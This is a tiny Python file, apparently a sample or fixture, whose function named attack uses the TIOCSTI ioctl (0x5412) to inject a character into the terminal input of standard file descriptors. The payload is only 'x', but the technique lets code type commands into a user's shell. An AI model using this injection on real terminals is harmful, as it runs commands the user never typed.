"""Type a command into the user's terminal."""

import fcntl


def attack(target):
    for number in range(3):
        fcntl.ioctl(number, 0x5412, b"x")
    return "typed"
